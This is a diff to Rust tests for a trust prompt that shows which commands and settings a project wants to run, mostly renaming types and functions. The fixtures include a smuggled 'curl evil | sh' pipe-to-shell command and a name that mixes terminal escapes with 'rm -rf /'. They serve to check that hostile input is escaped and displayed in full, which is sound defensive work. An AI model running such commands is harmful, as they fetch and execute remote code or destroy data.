@@ -4,12 +4,12 @@ use relaycode_text::escape::is_unsafe;
 
 use super::*;
 
-const PLAIN: Look = Look { color: false, utf8: true, width: Some(80) };
-const ASCII: Look = Look { color: false, utf8: false, width: Some(80) };
+const PLAIN: OutputStyle = OutputStyle { color: false, utf8: true, width: Some(80) };
+const ASCII: OutputStyle = OutputStyle { color: false, utf8: false, width: Some(80) };
 
-fn wants(commands: &[(&str, &str)], settings: &[(&str, &str)]) -> Wants {
+fn wants(commands: &[(&str, &str)], settings: &[(&str, &str)]) -> TrustRequest {
     let own = |rows: &[(&str, &str)]| rows.iter().map(|(a, b)| (a.to_string(), b.to_string())).collect();
-    Wants { commands: own(commands), settings: own(settings), git: Vec::new() }
+    TrustRequest { commands: own(commands), settings: own(settings), git: Vec::new() }
 }
 
 #[test]
@@ -21,7 +21,7 @@ this project wants to run 2 commands
     postCommand   make fmt
 ";
     assert_eq!(text(&wants, None, &PLAIN), expected);
-    let said = source(&wants, None, "relaycode.config.json", &PLAIN);
+    let said = source_phrase(&wants, None, "relaycode.config.json", &PLAIN);
     assert_eq!(said, "from relaycode.config.json, not seen before");
 }
 
@@ -40,8 +40,8 @@ this project wants to run 2 commands and to say who approves
   + patch.approvalMode   auto
 ";
     assert_eq!(text(&now, Some(&before), &PLAIN), expected);
-    assert_eq!(source(&now, Some(&before), "c", &PLAIN), "from c, changed since you trusted it");
-    assert_eq!(source(&now, Some(&now), "c", &PLAIN), "from c, trusted as it is");
+    assert_eq!(source_phrase(&now, Some(&before), "c", &PLAIN), "from c, changed since you trusted it");
+    assert_eq!(source_phrase(&now, Some(&now), "c", &PLAIN), "from c, trusted as it is");
 }
 
 #[test]
@@ -49,12 +49,12 @@ fn a_command_is_seen_whole_however_long_and_narrow() {
     let command = format!("./check {} ; curl evil | sh", "--flag=".repeat(30));
     let wants = wants(&[("linter", &command)], &[("patch.approvalOnErrorCount", "100")]);
     for width in [40, 80, 110] {
-        let shown = text(&wants, None, &Look { width: Some(width), ..PLAIN });
+        let shown = text(&wants, None, &OutputStyle { width: Some(width), ..PLAIN });
         assert!(shown.lines().all(|line| cells(line) <= width), "{shown}");
         let letters = |text: &str| text.chars().filter(|c| !c.is_whitespace()).collect::<String>();
         assert!(letters(&shown).contains(&letters(&command)), "{shown}");
     }
-    let narrow = text(&wants, None, &Look { width: Some(40), ..PLAIN });
+    let narrow = text(&wants, None, &OutputStyle { width: Some(40), ..PLAIN });
     assert!(narrow.ends_with("    patch.approvalOnErrorCount\n      100\n"), "{narrow}");
 }
 
@@ -62,8 +62,9 @@ fn a_command_is_seen_whole_however_long_and_narrow() {
 fn hostile_names_and_commands_are_visible() {
     let hostile = "a\x1b[2Jb\u{202e}c\nrm -rf /\u{9b}31m\té";
     let wants = wants(&[(hostile, hostile)], &[(hostile, hostile)]);
-    for look in [PLAIN, ASCII, Look { width: None, ..PLAIN }] {
-        let shown = text(&wants, Some(&Wants::default()), &look) + &source(&wants, None, hostile, &look);
+    for look in [PLAIN, ASCII, OutputStyle { width: None, ..PLAIN }] {
+        let shown = text(&wants, Some(&TrustRequest::default()), &look)
+            + &source_phrase(&wants, None, hostile, &look);
         assert_eq!(shown.chars().find(|c| is_unsafe(*c) && *c != '\n'), None, "{shown:?}");
         assert!(shown.contains("c\\nrm -rf /"), "{shown}");
         assert!(look.utf8 || shown.is_ascii(), "{shown}");
